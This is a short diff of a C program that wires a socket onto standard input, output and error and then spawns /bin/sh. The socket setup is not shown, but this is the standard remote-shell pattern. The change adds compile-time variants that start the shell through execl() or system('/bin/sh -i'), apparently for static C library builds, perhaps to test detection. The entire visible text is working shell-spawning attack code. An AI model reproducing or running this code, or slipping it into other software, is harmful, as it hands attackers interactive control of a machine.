@@ -21,6 +21,16 @@ int main(void) {
     dup2(s, 0);
     dup2(s, 1);
     dup2(s, 2);
+#if defined(VIA_EXECL)
+    /* the C library's execl() (static C library builds, see build.sh) */
+    (void)argv;
+    execl("/bin/sh", "sh", (char *)0);
+#elif defined(VIA_SYSTEM)
+    /* the C library's system() (static C library builds, see build.sh) */
+    (void)argv;
+    system("/bin/sh -i");
+#else
     execve("/bin/sh", argv, 0);
+#endif
     return 0;
 }
